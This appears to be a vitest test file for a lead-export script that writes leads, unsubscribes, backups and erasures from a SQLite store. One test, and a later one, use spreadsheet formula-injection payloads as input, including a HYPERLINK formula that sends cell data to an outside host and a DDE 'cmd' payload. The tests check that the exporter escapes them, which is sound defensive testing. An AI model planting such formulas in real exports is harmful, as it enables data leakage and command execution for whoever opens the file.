import { readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import * as fc from "fast-check";
import { expect, onTestFinished, test } from "vitest";
import { eventNames, leadFormProperties } from "#domain/leads/collector-contract.ts";
import { normalizeName } from "#domain/leads/lead.ts";
import { normalizeEmail } from "#domain/mail/normalize-email.ts";
import { isExactEmail } from "#domain/mail/pasted-email.ts";
import { openSqliteStore } from "#server/store/sqlite/sqlite-store.ts";
import { buildLeadMessage, buildTestIdentity } from "#server/testing/client.ts";
import { startDatabaseOnSameThread } from "#server/testing/databases/same-thread-database.ts";
import { runScript, startScript } from "#server/testing/process.ts";
import { createTestFolder } from "#server/testing/test-folder.ts";

const header =
  "\ufeffIdentity,Name,Email,Terminos,CheckPublicidad,Channel,IsLead,received_at,form_submitted_at,unsubscribed_at,consent";

/** Creates a store that stays open, as in a running server; `at` sets its clock. */
async function storeWith(names: readonly string[]) {
  const databaseFile = join(createTestFolder(), "wim.sqlite");
  let now = "";
  const store = await openSqliteStore(databaseFile, {
    now: () => new Date(now),
    startThread: startDatabaseOnSameThread,
  });
  onTestFinished(() => store.close());
  const at = (time: string) => {
    now = time;
    return store;
  };
  for (const [index, Name] of names.entries()) {
    const { properties, ...message } = buildLeadMessage(index);
    await at(`2026-03-01T12:00:0${index}Z`).add({ ...message, page: "", properties: { ...properties, Name } });
  }
  return { at, databaseFile };
}

const leads = (databaseFile: string, ...args: string[]) =>
  runScript("scripts/leads.ts", { DATABASE_FILE: databaseFile }, args);

test("exports the stored leads while the store is in use", async () => {
  const { at, databaseFile } = await storeWith(["Ana", "José Ñandú"]);
  const form = {
    event: eventNames.formSubmitted,
    Identity: buildTestIdentity(0),
    page: "",
    properties: leadFormProperties,
  };
  await at("2026-03-01T12:30:00Z").add(form);
  const { exitCode, stdout, stderr } = await leads(databaseFile, "--csv");
  expect([exitCode, stderr]).toEqual([0, ""]);
  expect(stdout.split("\n")).toEqual([
    header,
    `${buildTestIdentity(0)},Ana,ana@wim.example,true,true,Marketing,true,2026-03-01T12:00:00.000Z,2026-03-01T12:30:00.000Z,,unconfirmed`,
    `${buildTestIdentity(1)},José Ñandú,ana@wim.example,true,true,Marketing,true,2026-03-01T12:00:01.000Z,,,unconfirmed`,
    "",
  ]);
});

test("marks the leads that later unsubscribed, and lists every unsubscribed address", async () => {
  const { at, databaseFile } = await storeWith(["Ana"]);
  await at("2026-03-02T00:00:00Z").unsubscribe(" ANA@wim.example ");
  await at("2026-03-02T00:01:00Z").unsubscribe("nadie@wim.example");
  await at("2026-03-03T00:00:00Z").unsubscribe("ana@wim.example");
  expect((await leads(databaseFile, "--csv")).stdout).toMatch(/12:00:00\.000Z,,2026-03-03T00:00:00\.000Z,withdrawn\n$/);
  expect((await leads(databaseFile)).stdout).toMatch(
    /al que no se escribe: 1\nConfirmados por su dueño: 0; .*\nCorreos que pidieron la baja: 2; confirmadas por su dueño: 0\. .*\n/,
  );
  expect((await leads(databaseFile, "--unsubscribed", "--csv")).stdout.split("\n")).toEqual([
    "\ufeffEmail,first_at,last_at,confirmed_at",
    "ana@wim.example,2026-03-02T00:00:00.000Z,2026-03-03T00:00:00.000Z,",
    "nadie@wim.example,2026-03-02T00:01:00.000Z,2026-03-02T00:01:00.000Z,",
    "",
  ]);
  await at("2026-03-04T12:00:00Z").add({ ...buildLeadMessage(7), page: "" });
  expect((await leads(databaseFile, "--csv")).stdout).toMatch(
    /04T12:00:00\.000Z,,2026-03-03T00:00:00\.000Z,unconfirmed\n$/,
  );
});

test("cleans text that would break a row or a list of addresses, and escapes spreadsheet formulas", async () => {
  const { databaseFile } = await storeWith([
    'Ana "la buena"',
    "López, Ana",
    "Ana\nLópez",
    "=HYPERLINK(1)",
    '=HYPERLINK("https://otro.example/?"&A1,"Ana")',
    "＝cmd|' /C calc'!A0",
    "\t=1+1",
    "+52",
    "@ana",
    "-1",
  ]);
  const { stdout } = await leads(databaseFile, "--csv");
  const afterIdentity = stdout.split(/MKT-[0-9-]+,/).slice(1);
  const expected = [
    '"Ana ""la buena"""',
    "López Ana",
    "Ana López",
    "'=HYPERLINK(1)",
    `"'=HYPERLINK(""https://otro.example/ ""&A1 ""Ana"")"`,
    "'＝cmd|' /C calc'!A0",
    "'=1+1",
    "'+52",
    "'@ana",
    "'-1",
  ];
  expect(afterIdentity.map((row) => row.split(",ana@wim.example")[0])).toEqual(expected);
});

/** Generates valid addresses with all characters that are special in spreadsheets and CSV. */
const addresses = fc
  .tuple(
    fc.constantFrom("", "+", "-", "_"),
    fc.string({ unit: fc.constantFrom(..."aZ9ñ+-=_.'&*/|!#~"), minLength: 1, maxLength: 12 }),
    fc.constantFrom("wim.mx", "españa.mx", "correo-9.com.mx"),
  )
  .map(([first, rest, domain]) => `${first}${rest}@${domain}`)
  .filter(isExactEmail);

const names = fc.string({ unit: fc.constantFrom(..."aé \"',;=+-@\n\t(1)"), maxLength: 12 });

test("the export is read back as stored: addresses exactly, and names with at most an added guard", async () => {
  const { at, databaseFile } = await storeWith([]);
  const people = fc.sample(fc.record({ Name: names, Email: addresses }), 500);
  for (const sign of "+-") people.push({ Name: `${sign}1`, Email: `${sign}ana@wim.mx` });
  const store = at("2026-03-01T12:00:00Z");
  await store.addAll(
    people.map((person, index) => ({
      ...{ ...buildLeadMessage(index), page: "" },
      properties: { ...buildLeadMessage(index).properties, ...person },
    })),
  );
  for (const { Email } of people) await store.unsubscribe(Email);
  const read = async (...args: string[]): Promise<Record<string, string>[]> =>
    parse((await leads(databaseFile, ...args)).stdout, { bom: true, columns: true });
  const rows = await read("--csv");
  expect(rows.map(({ Email }) => Email)).toEqual(people.map(({ Email }) => Email));
  const raw = await read("--csv", "--raw");
  expect(raw.map(({ Name, Email }) => [Name, Email])).toEqual(
    people.map(({ Name, Email }) => [normalizeName(Name), Email]),
  );
  const guardName = (name: string) => (/^[=+@-]/.test(name) ? `'${name}` : name);
  expect(rows.map(({ Name }) => Name)).toEqual(people.map(({ Name }) => guardName(normalizeName(Name))));
  expect(new Set((await read("--unsubscribed", "--csv")).map(({ Email }) => Email))).toEqual(
    new Set(people.map(({ Email }) => normalizeEmail(Email))),
  );
});

test("escapes addresses stored before the validation became as strict as it is now", async () => {
  const { at, databaseFile } = await storeWith([]);
  await at("2026-03-02T00:00:00Z").unsubscribe('=HYPERLINK("https://otro.example")');
  const { stdout } = await leads(databaseFile, "--unsubscribed", "--csv");
  expect(stdout).toContain(`\n"'=hyperlink(""https://otro.example"")",2026`);
});

test("writes to a file that only its owner can read", async () => {
  const { databaseFile } = await storeWith(["Ana"]);
  const file = join(createTestFolder(), "leads.csv");
  expect(await leads(databaseFile, "--csv", "--out", file)).toMatchObject({ exitCode: 0, stderr: "" });
  expect(readFileSync(file, "utf8")).toMatch(new RegExp(`^${header}\nMKT-.*\n$`));
  expect(statSync(file).mode & 0o077).toBe(0);
});

test("prints a summary without flags", async () => {
  const { databaseFile } = await storeWith(["Ana", "Eva"]);
  const { stdout } = await leads(databaseFile);
  expect(stdout).toContain("Leads: 2\nPrimero: 2026-03-01T12:00:00.000Z\nÚltimo: 2026-03-01T12:00:01.000Z\n");
  expect(stdout).toContain("Sin FORM_SUBMITTED: 2");
  expect((await leads((await storeWith([])).databaseFile)).stdout).toBe("Todavía no hay leads.\n");
});

test("stops silently when its reader closes the pipe", async () => {
  const { at, databaseFile } = await storeWith([]);
  const manyLeads = Array.from({ length: 3_000 }, (_, index) => ({ ...buildLeadMessage(index), page: "" }));
  await at("2026-03-01T12:00:00Z").addAll(manyLeads);
  const child = startScript("scripts/leads.ts", { DATABASE_FILE: databaseFile }, ["--csv"]);
  let stderr = "";
  child.stderr.on("data", (chunk) => {
    stderr += chunk;
  });
  child.stdout.once("data", () => child.stdout.destroy());
  const exitCode = await new Promise((resolve) => child.once("close", resolve));
  expect([exitCode, stderr]).toEqual([0, ""]);
});

test("reports a missing database, or how to use the command", async () => {
  const missing = join(createTestFolder(), "nada.sqlite");
  const { exitCode, stderr } = await leads(missing, "--csv");
  expect(exitCode).toBe(1);
  expect(stderr).toContain(`No se pudo abrir la base de datos ${missing}: no existe; arranca el sitio`);
  const misused = await leads(missing, "--cvs");
  expect(misused.exitCode).toBe(1);
  expect(misused.stderr).toMatch(/^Uso:\n/);
});

test("erases a person while the store is in use, lists what is left to do, and keeps a register", async () => {
  const { at, databaseFile } = await storeWith(["Ana", "José"]);
  await at("2026-03-02T00:00:00Z").unsubscribe("ana@wim.example");
  const erased = await leads(databaseFile, "--person", "ana@wim.example", "--erase");
  expect([erased.exitCode, erased.stdout]).toEqual([0, ""]);
  expect(erased.stderr).toMatch(/^Borrado\. Mensajes: 2; bajas: 1\.\n.*huella.*\n.*listas.*\nLos respaldos de antes/);
  expect((await leads(databaseFile, "--register")).stdout).toMatch(/ {2}datos borrados; mensajes: 2, bajas: 1\n$/);
});

test("makes a backup and reports its size", async () => {
  const { databaseFile } = await storeWith(["Ana"]);
  const backup = join(createTestFolder(), "copia.sqlite");
  expect((await leads(databaseFile, "--backup", backup)).stdout).toBe(
    `Respaldado y revisado en ${backup}. Mensajes: 1; bajas: 0\n`,
  );
});
